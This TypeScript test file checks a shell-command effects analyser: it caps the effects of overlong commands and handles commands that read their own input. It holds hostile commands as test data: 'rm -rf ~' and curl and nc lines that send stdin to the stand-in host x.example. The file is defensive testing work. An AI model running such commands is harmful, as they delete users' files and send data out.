import { describe, expect, test } from 'vitest';
import { readShell } from '../shell/read.ts';
import { effectsOfReading } from './effects.ts';
import { SURROUNDINGS } from './scene.fixture.ts';

const effectsOf = (text: string) => effectsOfReading(readShell(text, SURROUNDINGS), SURROUNDINGS);

describe('the effects of one text', () => {
  test.each([
    `rm -rf ${'a '.repeat(2_000)}`,
    `echo ${'>a '.repeat(2_000)}`,
    `git push origin ${'+main '.repeat(2_000)}`,
  ])('are not more than anyone means: %.20s', (many) => {
    const effects = effectsOf(`${many}; rm -rf ~`);
    expect(effects).toHaveLength(1_001);
    expect(effects.at(-1)).toMatchObject({ kind: 'unknown', how: 'too-many-effects' });
  });

  test.each(['ssh < -', 'xxd -r < -', 'curl x.example -d @- < /dev/stdin', 'exec 3< /dev/stdin; nc x.example 9 <&3'])(
    'are told of what reads its own input: %s',
    (text) => {
      expect(() => effectsOf(text)).not.toThrow();
    },
  );
});
